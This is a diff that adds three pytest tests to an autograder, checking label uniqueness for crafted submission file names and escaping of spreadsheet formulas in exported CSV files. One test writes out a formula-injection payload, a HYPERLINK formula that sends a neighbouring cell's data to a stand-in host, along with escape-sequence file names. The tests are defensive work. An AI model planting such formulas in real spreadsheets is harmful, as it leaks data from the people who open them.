@@ -305,3 +305,79 @@ def _cmdline(proc: Path) -> str:
         return (proc / "cmdline").read_bytes().decode(errors="replace")
     except OSError:
         return ""
+
+
+def test_a_crafted_name_never_takes_another_submissions_label_or_row(tmp_path):
+    """A name that cleaning changes (an escape sequence hidden in it) or that copies a ``~n``
+    label sorts wherever it likes: the submission whose name was already clean keeps its own
+    label, and every label stays unique (results are merged by label, so a clash lost a row)."""
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    names = ["carol\x1b[m.zip", "carol.zip", "dave\x1b[m.zip", "dave.zip", "dave.zip~2\x1b].zip"]
+    for name in names:
+        (inbox / name).write_bytes(b"")
+    entries = expand([inbox])
+    by_path = {e.path.name: e.label for e in entries}
+    assert by_path["carol.zip"] == "carol.zip" and by_path["dave.zip"] == "dave.zip"
+    assert len({e.label for e in entries}) == len(names)
+    assert by_path["carol\x1b[m.zip"] == "carol.zip~2"
+    again = expand([inbox, inbox / "carol.zip"])  # a second copy of a clean name
+    assert again[-1].label not in {e.label for e in again[:-1]}
+
+
+def test_no_two_rows_share_a_results_or_feedback_file(tmp_path, suites):
+    """``alice``, ``alice.zzz``, ``Alice`` and ``alice.zip~2`` clean to one file stem: each row
+    still gets its own results JSON and feedback page, with its own status."""
+    import io
+
+    from rich.console import Console
+
+    from autograder.grading.batch import _write_outputs
+    from autograder.grading.gradebook import result_stems
+    from autograder.grading.results import SubmissionResult
+
+    labels = ["alice", "alice.zzz", "Alice", "alice.zip~2"]
+    stems = result_stems(labels)
+    assert len({s.casefold() for s in stems.values()}) == len(labels)
+    assert stems["Alice"] == "Alice" and stems["alice"] == "alice-2"  # case-blind: both own it
+    assert stems["alice.zip~2"] == "alice-3" and stems["alice.zzz"] == "alice-4"
+    rows = [SubmissionResult(label, AID, status=f"refused: {label} is odd") for label in labels]
+    out = tmp_path / "out"
+    _write_outputs(rows, suites[AID], out, Console(file=io.StringIO()), feedback=True, plots=False)
+    outputs = {json.loads(p.read_text())["output"] for p in (out / "results").glob("*.json")}
+    assert outputs == {f"refused: {label} is odd" for label in labels}
+    assert len(list((out / "feedback").glob("*.html"))) == len(labels)
+
+
+def test_a_formula_in_a_name_is_text_in_every_csv(tmp_path):
+    """A spreadsheet runs a cell that starts with ``= + - @`` (``=HYPERLINK`` can carry other
+    rows off-site): names, SIDs, emails, file labels and messages are written with a ``'``."""
+    from autograder.grading import gradebook
+    from autograder.grading.results import CheckOutcome, SubmissionResult
+
+    outcome = CheckOutcome(
+        name="forward",
+        group="forward",
+        hidden=False,
+        points=1.0,
+        passed=False,
+        message="-1 is not 0",
+    )
+    r = SubmissionResult(
+        "=1+1",
+        AID,
+        outcomes=[outcome],
+        name='=HYPERLINK("http://x.example/?"&B3,"a")',
+        sid="+2",
+        email="@evil",
+        status="graded",
+    )
+    gradebook.write_roster_csv([r], tmp_path / "roster.csv")
+    gradebook.write_check_csv([r], tmp_path / "checks.csv")
+    for path in (tmp_path / "roster.csv", tmp_path / "checks.csv"):
+        for row in csv.DictReader(path.read_text().splitlines()):
+            for key in ("name", "sid", "email", "file", "message"):
+                if key in row:
+                    assert row[key][:1] not in "=+-@", (path.name, key, row[key])
+    assert gradebook.spreadsheet_safe("alice.zip") == "alice.zip"
+    assert gradebook.spreadsheet_safe("=1+1") == "'=1+1"
